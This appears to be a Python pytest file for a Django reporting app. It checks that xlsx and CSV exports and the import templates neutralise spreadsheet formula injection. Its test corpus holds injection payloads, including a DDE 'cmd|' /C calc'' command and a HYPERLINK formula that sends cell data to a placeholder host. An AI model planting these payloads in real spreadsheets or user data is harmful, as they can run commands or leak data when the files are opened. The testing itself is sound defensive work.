"""Formula injection: a corpus of dangerous texts through every export path we own, read back.

Paths: list exports (partners, agreements, activities) as xlsx and csv, their notes sheet, and the three
import templates (directory names, agreement numbers and titles). Every cell read back must be a plain value,
never a formula, and no text may be dangerous (`safety.is_dangerous`): no tab or carriage return first, no
=, +, -, @ as the first non-blank character after NFKC (full-width ＝ ＋ － ＠ and leading blanks included).
The ranking CSV, the LAKIP workbook and the target template are in test_formula_corpus.py.
"""

import csv
import datetime as dt
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from reports.spreadsheets.safety import inert, is_dangerous
from tests.factories import ActivityFactory, AgreementFactory, PartnerFactory

pytestmark = pytest.mark.django_db

CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@",
    "=",
    # full-width and small forms, folded to the ASCII triggers by NFKC
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\ufe661+1",
    # triggers behind blanks and line breaks
    " =1+1",
    "   +1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    " \t@SUM(1,1)",
    " \n \uff0dcmd|' /C calc'!A0",
]
SAFE = ["Rapat =1", "Rp 1.000", "1+1", "e-mail", "'=1+1", "Kota Depok"]


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(dt.datetime(2026, 11, 28, 10, 0, tzinfo=dt.UTC), tick=False):
        yield


@pytest.fixture
def poisoned(office_a, province, verifier):
    verifier.first_name = '=HYPERLINK("http://contoh.invalid")'
    verifier.save()
    partners = []
    for i, payload in enumerate(CORPUS):
        partners.append(
            PartnerFactory(
                name=f"{payload} mitra {i}",
                acronym=payload[:40],
                address=payload,
                phone=payload[:40],
                contact_name=payload[:120],
                home_office=office_a,
            )
        )
        agreement = AgreementFactory(
            office=office_a if i % 2 else province,
            title=payload,
            number=f"{payload} no {i}",
            partner_number=payload,
            signatories=payload,
            partners=[partners[-1]],
        )
        ActivityFactory(
            office=office_a,
            title=payload,
            location=payload,
            description=payload,
            outcome=payload,
            follow_up=payload,
            partners=[partners[-1]],
            agreement=agreement,
        )
    return partners


def assert_inert_text(value) -> None:
    if isinstance(value, str):
        assert not is_dangerous(value.replace("_x000D_", "\r")), repr(value)


def assert_inert_workbook(data: bytes) -> set[str]:
    """No formula cell and no dangerous text anywhere; returns every text seen."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} holds a formula: {cell.value!r}"
                assert_inert_text(cell.value)
                if isinstance(cell.value, str):
                    # XlsxWriter stores a carriage return as the OOXML escape _x000D_ (Excel shows "\r").
                    texts.add(cell.value.replace("_x000D_", "\r"))
    return texts


def assert_inert_csv(data: bytes) -> set[str]:
    texts = set()
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"):
        for value in row:
            assert_inert_text(value)
            texts.add(value)
    return texts


def download(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_inert_prefixes_every_dangerous_start():
    for payload in CORPUS:
        assert inert(payload) == "'" + payload
    for text in SAFE:
        assert inert(text) == text
    assert inert(-5) == -5


@pytest.mark.parametrize("kind", ["partners", "agreements", "activities"])
def test_list_export_xlsx_is_inert(client_verifier, poisoned, kind):
    data = download(client_verifier, reverse("reports:list-export", args=[kind]), {"format": "xlsx", "q": "=1+1"})
    texts = assert_inert_workbook(data)
    if kind == "activities":
        # q=1+1 keeps the titles containing "=1+1"
        assert {"'=1+1", "'\t=1+1", "'\r=1+1"} <= texts
    notes = dict(openpyxl.load_workbook(io.BytesIO(data))["Keterangan"].iter_rows(values_only=True))
    assert notes["Diekspor oleh"].startswith("'=HYPERLINK")
    assert notes["Filter"] == "Cari: =1+1"


@pytest.mark.parametrize("kind", ["partners", "agreements", "activities"])
def test_list_export_csv_is_inert(client_verifier, poisoned, kind):
    data = download(client_verifier, reverse("reports:list-export", args=[kind]), {"format": "csv"})
    texts = assert_inert_csv(data)
    assert "'=1+1" in texts or "'=1+1 mitra 0" in texts
    assert "'-2+3+cmd|' /C calc'!A0" in texts or "'-2+3+cmd|' /C calc'!A0 mitra 8" in texts


def test_every_corpus_entry_survives_as_text(client_verifier, poisoned):
    data = download(client_verifier, reverse("reports:list-export", args=["activities"]), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    titles = {row[1].replace("_x000D_", "\r") for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert titles == {"'" + payload for payload in CORPUS}


@pytest.mark.parametrize("kind", ["partners", "agreements", "activities"])
def test_import_templates_are_inert(client_a, poisoned, kind):
    data = download(client_a, reverse("reports:import-template", args=[kind]))
    texts = assert_inert_workbook(data)
    if kind != "partners":
        assert "'=1+1 mitra 0" in texts
    if kind == "activities":
        assert "'=cmd|' /C calc'!A0 no 7" in texts
